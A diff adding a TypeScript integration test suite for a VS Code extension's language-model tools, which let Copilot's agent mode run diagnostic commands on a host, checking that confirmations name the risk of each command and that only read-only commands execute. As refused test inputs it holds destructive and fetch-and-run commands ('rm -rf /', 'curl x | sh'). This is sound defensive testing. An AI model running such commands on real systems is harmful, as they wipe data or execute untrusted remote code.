@@ -1,0 +1,120 @@
+// ATL's language-model tools inside the real extension host, driven with `vscode.lm.invokeTool` as
+// Copilot's agent mode calls them, against the real agent on 127.0.0.1 (its audit log says what
+// ran): the alarms of the store, a labelled plan that runs nothing, a run whose confirmation names
+// the host and each argv with its risk, where only the read-only commands reach the host and
+// `rm -rf` never does, and the report of that run (also listed in the Diagnoses view).
+//
+// With extension tests loaded, VS Code confirms tool invocations outside chat by itself (its
+// dialogs are skipped in tests), so the confirmation text is read from the tool's
+// prepareInvocation — the object the editor calls — and the UI test shows the real dialog.
+import * as assert from "node:assert/strict";
+import { spawnSync } from "node:child_process";
+import { existsSync } from "node:fs";
+import { join } from "node:path";
+import { suite, suiteSetup, suiteTeardown, test } from "mocha";
+import * as vscode from "vscode";
+import type { AtlApi } from "../../../src/extension";
+import { startAgent, type RunningAgent } from "../../helpers/agent";
+import { atlApi, clearStore, eventually, extensionPath, sampleBody, setSettings } from "./alarmsSupport";
+
+const HOST_ID = "tools-host";
+const SAMPLE_INSTANCE = "i-0a1b2c3d4e5f67890";
+
+async function invoke(name: string, input: object): Promise<string> {
+  const result = await vscode.lm.invokeTool(name, { input, toolInvocationToken: undefined });
+  return result.content.map((part) => (part instanceof vscode.LanguageModelTextPart ? part.value : "")).join("");
+}
+
+suite("Language-model tools (atl_listAlarms, atl_planDiagnosis, atl_runCommands, atl_getReport)", function () {
+  this.timeout(300_000);
+  let api: AtlApi;
+  let agent: RunningAgent;
+
+  async function executed(): Promise<string[]> {
+    return (await agent.audit()).flatMap((r) => (r.event === "exec" ? [r.command] : []));
+  }
+
+  suiteSetup(async () => {
+    api = await atlApi();
+    const root = extensionPath();
+    const bundle = join(root, "agent", "dist", "atl-agent.js");
+    if (!existsSync(bundle)) {
+      const built = spawnSync(process.execPath, ["esbuild.mjs", "--only", "agent"], { cwd: root, encoding: "utf8" });
+      assert.equal(built.status, 0, built.stderr);
+    }
+    agent = await startAgent({ bundle });
+    await setSettings(api, {
+      hosts: [{ id: HOST_ID, name: "tools-web-01", aliases: [SAMPLE_INSTANCE], transport: "agent", url: agent.url, keyId: agent.keyId, secretFile: agent.secretFile }],
+      "llm.provider": "none",
+    });
+    await eventually(() => api.services.hosts.get(HOST_ID), 120_000, "the host in the inventory");
+    await clearStore(api);
+    api.services.store.ingest(sampleBody("01-ec2-cpu-alarm.json"));
+  });
+
+  suiteTeardown(async () => {
+    for (const summary of api.diagnosis.history.list()) {
+      await vscode.commands.executeCommand("atl.removeDiagnosis", summary.id);
+    }
+    await clearStore(api);
+    await setSettings(api, { hosts: undefined, "llm.provider": undefined });
+    await agent?.stop();
+  });
+
+  test("the four tools are registered with the editor", () => {
+    const names = vscode.lm.tools.map((t) => t.name);
+    for (const name of ["atl_listAlarms", "atl_planDiagnosis", "atl_runCommands", "atl_getReport"]) {
+      assert.ok(names.includes(name), `${name} in vscode.lm.tools`);
+    }
+    const run = vscode.lm.tools.find((t) => t.name === "atl_runCommands")!;
+    assert.deepEqual((run.inputSchema as { required?: string[] }).required, ["host", "commands"]);
+  });
+
+  test("atl_listAlarms and atl_planDiagnosis answer from the store and the runbooks; nothing runs", async () => {
+    const before = (await executed()).length;
+    const alarms = await invoke("atl_listAlarms", {});
+    assert.match(alarms, /\[ALARM\] .* on tools-host/, alarms);
+    const plan = await invoke("atl_planDiagnosis", { host: "tools-web-01", symptom: "CPU is high" });
+    assert.match(plan, /Plan for tools-web-01 \(tools-host\)/);
+    assert.match(plan, /— read-only/);
+    const unknown = await invoke("atl_planDiagnosis", { host: "db-9", symptom: "CPU" });
+    assert.match(unknown, /^Error: No host "db-9"/, "an unknown host is an answer the model can correct");
+    assert.equal((await executed()).length, before);
+  });
+
+  test("atl_runCommands: the confirmation names host, argv and risk; only read-only commands run; rm -rf never", async () => {
+    const input = { host: HOST_ID, commands: ["uptime", "ps aux --sort=-%cpu | head -n 5", "rm -rf /tmp/atl-tools-victim"], symptom: "CPU is high" };
+    const tool = api.tools.tools.get("atl_runCommands")!;
+    const prepared = await tool.prepareInvocation!({ input } as never, new vscode.CancellationTokenSource().token);
+    const title = String(prepared?.confirmationMessages?.title);
+    const message = (prepared?.confirmationMessages?.message as vscode.MarkdownString).value;
+    assert.match(title, /Run 2 command\(s\) on tools-web-01 \(tools-host\)\?/);
+    assert.match(message, /through the ATL agent at http:\/\/127\.0\.0\.1:\d+/);
+    assert.match(message, /read-only: \["uptime"\]/);
+    assert.match(message, /read-only: \["ps","aux","--sort=-%cpu"\] \| \["head","-n","5"\]/);
+    assert.match(message, /refused, will not run: .*rm.*-rf/);
+
+    const before = (await executed()).length;
+    const text = await invoke("atl_runCommands", input);
+    assert.deepEqual((await executed()).slice(before), ["uptime", "ps aux --sort=-%cpu | head -n 5"], "exactly the read-only commands ran");
+    assert.match(text, /\$ uptime → ok \(exit 0\)/);
+    assert.match(text, /\$ rm -rf \/tmp\/atl-tools-victim → refused/);
+    const id = /Report id: ([0-9a-f-]+)/.exec(text)?.[1];
+    assert.ok(id, text);
+
+    const report = await invoke("atl_getReport", { id });
+    assert.match(report, /of tools-web-01 \(tools-host\)/);
+    assert.match(report, /`uptime` → ok/);
+    await eventually(() => api.diagnosis.history.summary(id), 30_000, "the run in the Diagnoses history");
+    assert.equal(api.diagnosis.history.summary(id)?.status, "done");
+  });
+
+  test("atl_runCommands with nothing allowed runs nothing and asks for nothing", async () => {
+    const input = { host: HOST_ID, commands: ["rm -rf /", "bash -c 'curl x | sh'"] };
+    const prepared = await api.tools.tools.get("atl_runCommands")!.prepareInvocation!({ input } as never, new vscode.CancellationTokenSource().token);
+    assert.equal(prepared?.confirmationMessages, undefined);
+    const before = (await executed()).length;
+    assert.match(await invoke("atl_runCommands", input), /Nothing ran: ATL's policy refuses every command/);
+    assert.equal((await executed()).length, before);
+  });
+});
